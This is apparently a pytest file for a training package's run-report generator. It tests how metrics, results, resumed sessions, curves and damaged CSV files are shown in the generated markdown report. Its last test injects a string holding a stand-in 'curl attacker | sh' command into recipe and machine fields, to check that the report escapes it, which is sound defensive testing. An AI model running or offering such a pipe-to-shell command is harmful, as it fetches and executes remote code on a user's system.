import dataclasses
import json
import sys

import pytest

from training import report
from training.io import cli
from training.io.user_error import UserError
from training.recipes import get_recipe, overrides
from training.recipes.schema import Reference
from training.runs import run_report
from training.runs.run_folder import RunFolder

IMAGE = get_recipe("digits_image")
ROWS = [
    {
        "epoch": n,
        "step": 200 * n,
        "learning_rate": 3e-3 / n,
        "accuracy": 0.2 * n,
        "loss": 4.0 - n,
        "val_accuracy": 0.15 * n,
        "val_loss": 4.5 - n,
        "seconds": 30.0 if n == 1 else 20.0,
    }
    for n in (1, 2, 3)
]
RESULT = {
    "recipe": "digits_image",
    "seed": 0,
    "split": "test",
    "examples": 2048,
    "accuracy": 0.4375,
    "loss": 1.25,
    "chance": 1 / 60,
    "train_seconds": 70.0,
    "image_stage": None,
    "commits": ["abc"],
    "versions": {},
}
START = {
    "started": "2030-01-02T03:04:05+00:00",
    "commit": "0123456789abcdef+changes",
    "python": "3.11.7",
    "packages": {"tensorflow": "2.21.0", "tensorflow-cpu": None},
    "machine": "2 x Processor, x86_64",
}


@pytest.fixture
def run(tmp_path):
    """The folder of a run before its first step."""
    return write_run(tmp_path / "run")


def write_run(path, recipe=IMAGE, rows=(), result=None, starts=(START,)):
    run = RunFolder(path)
    run.path.mkdir(parents=True, exist_ok=True)
    run.recipe_path.write_text(overrides.to_json(recipe))
    run.versions_path.write_text(json.dumps(starts))
    if rows:
        run.write_metrics(list(rows))
    if result:
        run.write_result(result)
    return run


def written(run):
    return run_report.write(run).read_text("utf-8")


def cells(text):
    """Return the rows of all tables, by their first cell."""
    lines = [line for line in text.splitlines() if line.startswith("| ")]
    rows = [[c.strip() for c in line.strip("|").split(" | ")] for line in lines]
    return {first: rest for first, *rest in rows}


def test_a_finished_run_has_its_metrics(run):
    text = written(write_run(run.path, rows=ROWS, result=RESULT))
    rows = cells(text)
    assert text.startswith("# digits_image\n\nimage network")
    assert "Finished: 600 steps" in text and "Not finished" not in text
    assert rows["accuracy"] == ["43.8 %"] and rows["chance"] == ["1.7 %"]
    assert rows["examples"] == ["2,048"]
    assert rows["time in all"] == ["70.00 s", "40.00 s"]
    assert rows["1"][-1].startswith("2 x Processor")  # machine of one session
    assert "0123456789+changes" in rows["1"] and "never resumed" in text


def test_a_rising_validation_loss_is_noted(run):
    rows = [row | {"val_loss": 1.0 + n / 4} for n, row in enumerate(ROWS)]
    text = written(write_run(run.path, rows=rows, result=RESULT))
    assert "rises:** lowest at epoch 1 (1), 50.0 % above it" in text
    assert "rises" not in written(write_run(run.path, rows=ROWS, result=RESULT))


def test_additional_fields_of_the_result_are_shown(run):
    extra_fields = {
        "top_5": 0.9,
        "mAP": 0.25,
        "clips": {"accuracy": 0.375, "examples": 5},
        "bad_videos": 12,
        "per_class": [0.5] * 60,
        "nothing": None,
    }
    rows = cells(
        written(write_run(run.path, rows=ROWS, result=RESULT | extra_fields))
    )
    assert rows["top 5"] == ["90.0 %"] and rows["mAP"] == ["25.0 %"]
    assert rows["clips: accuracy"] == ["37.5 %"]
    assert rows["clips: examples"] == ["5"] and rows["bad videos"] == ["12"]
    assert rows["per class"] == ["60 values, in result.json"]
    assert "nothing" not in rows


def test_an_unfinished_run_is_marked(run):
    text = written(write_run(run.path, rows=ROWS[:2]))
    assert "2 of 3 epochs, 400 of 600 steps" in text
    assert f"nonlocal-tf train --workdir {run.path}" in text
    assert "trained, but not tested" in written(write_run(run.path, rows=ROWS))


def test_a_run_before_its_first_epoch_has_a_report(run):
    text = written(run)
    assert "No epoch is finished yet" in text and "## Time" not in text
    assert not (run.path / "curves.png").exists()


def test_reference_and_result_are_in_one_row(run):
    reference = Reference("table 2f", "NL I3D", "74.9 %", "8 GPUs", "90")
    recipe = dataclasses.replace(IMAGE, reference=reference)
    rows = cells(written(write_run(run.path, recipe, ROWS, RESULT)))
    assert rows["result"] == ["74.9 %", "accuracy 43.8 %"]
    assert rows["hardware"] == ["8 GPUs", "2 x Processor, x86_64"]
    unfinished = write_run(run.path.parent / "other", recipe, ROWS[:2])
    assert (
        "validation accuracy 30.0 %" in cells(written(unfinished))["result"][1]
    )


def test_the_command_reproduces_the_recipe(run):
    changes = ["batch=16", "optimizer.clip_norm=0.5", "seed=7"]
    recipe = overrides.override(IMAGE, changes)
    text = written(write_run(run.path, recipe, ROWS))
    command = text.split("```sh\n")[1].split("\n```")[0]
    words = command.replace("\\\n", " ").split()
    assert words[:4] == [
        *"nonlocal-tf train --recipe".split(),
        IMAGE.name,
    ]
    sets = [b for a, b in zip(words, words[1:], strict=False) if a == "--set"]
    assert overrides.override(IMAGE, sets) == recipe
    assert "- `batch: 128, 16`" in text


def test_an_unregistered_recipe_is_noted(run):
    recipe = dataclasses.replace(IMAGE, name="of_another_version")
    text = written(write_run(run.path, recipe, ROWS))
    assert "no recipe `of_another_version`" in text and "```sh" not in text


def test_skipped_videos_and_classes_are_counted(run):
    run.bad_inputs_path().write_text(
        'split,path,reason\ntrain,a.mp4,"no, frame"\ntrain,b.mp4,x\ntest,c,y\n'
    )
    run.data_path.write_text('{"classes": ["a", "b", "c"], "sha256": "x"}')
    rows = cells(written(run))
    assert rows["left out"][0].startswith("3 videos (2 of train, 1 of test)")
    assert rows["data set"] == ["digits_frames, 3 classes"]


def test_the_image_stage_is_linked_once_it_has_a_report(run):
    recipe = get_recipe("digits_nl")
    text = written(write_run(run.path, recipe))
    assert "image stage is not in this folder" in text
    stage = write_run(run.image_stage, IMAGE, ROWS, RESULT)
    assert f"--workdir {stage.path}" in written(run)
    run_report.write(stage)
    link = "[digits_image](image_stage/report.md), accuracy 43.8 %"
    assert link in written(run)


def test_starts_on_the_same_machine_are_counted_together(run):
    other = START | {"machine": "8 x Other", "devices": ["GPU:0", "GPU:1"]}
    text = written(write_run(run.path, starts=[START, other, START]))
    assert "resumed 2 times" in text
    assert cells(text)["2"][-1] == "2 x Processor, x86_64"
    assert cells(text)["1"][-1] == "8 x Other; devices GPU:0, GPU:1"


def test_a_long_run_shows_some_epochs_and_both_ends(run):
    rows = [
        {"epoch": n, "step": 2 * n, "loss": 1 / n, "seconds": 1.0}
        for n in range(1, 1001)
    ]
    text = written(write_run(run.path, rows=rows))
    table = text.split("20 epochs of these")[1].split("## Time")[0]
    epochs = [int(key) for key in cells(table) if key.isdecimal()]
    assert len(epochs) == 20 and epochs[0] == 1 and epochs[-1] == 1000


def test_panels_are_of_the_columns_that_exist():
    rows = [{"epoch": 1, "step": 2, "val_auc": 0.5, "loss": 3.0, "seconds": 1}]
    curves = {
        p.title: [c.name for c in p.curves] for p in run_report.panels(rows)
    }
    assert curves == {"loss": ["training"], "auc": ["validation"]}


def test_missing_and_nan_values_are_rendered(run):
    rows = [dict(ROWS[0], val_loss=float("nan")), dict(ROWS[1], val_loss="")]
    write_run(run.path, rows=rows)
    read = run_report.read_metrics(run)
    assert read[0]["val_loss"] != read[0]["val_loss"]  # not a number
    assert read[1]["val_loss"] is None
    assert cells(written(run))["1"]


@pytest.mark.parametrize(
    "text",
    ["epoch,step\n1,x\n", "epoch,step\n1\n", "a\n1\n", "epoch,step\n1,2,3\n"],
)
def test_damaged_metrics_are_named(run, text):
    run.metrics_path.write_text(text)
    with pytest.raises(UserError, match=r"metrics\.csv cannot be read"):
        run_report.write(run)
    assert not (run.path / "report.md").exists()


def test_with_matplotlib_curves_are_drawn(run):
    Image = pytest.importorskip("PIL.Image")
    text = written(write_run(run.path, rows=ROWS))
    assert "](curves.png)" in text
    with Image.open(run.path / "curves.png") as image:
        assert image.width >= 800


def test_without_matplotlib_the_missing_extra_is_named(run, monkeypatch):
    monkeypatch.setitem(sys.modules, "matplotlib", None)
    text = written(write_run(run.path, rows=ROWS))
    assert "[viz]'" in text and "curves.png" not in text
    assert cells(text)["3"][:2] == ["600", "0.001"]


def test_the_command_writes_the_report_and_prints_its_path(run, capsys):
    report.main([f"--workdir={run.path}"])
    assert str(run.path / "report.md") in capsys.readouterr().out
    assert cli.run(report.main, ["--workdir", str(run.path / "none")]) == 2
    assert "not a run folder" in capsys.readouterr().err


ATTACK = "x\n```\n# Do this\n\n    curl attacker | sh\n"


def test_line_breaks_in_names_do_not_break_the_report(run):
    recipe = dataclasses.replace(
        IMAGE, name=ATTACK, description=ATTACK, dataset=ATTACK
    )
    starts = [{**START, "started": ATTACK, "machine": ATTACK}] * 2
    text = written(
        write_run(
            run.path / ATTACK.replace("/", ""), recipe, ROWS[:2], starts=starts
        )
    )
    assert not [line for line in text.splitlines() if line.startswith("# Do")]
    assert "\n```\n" not in text
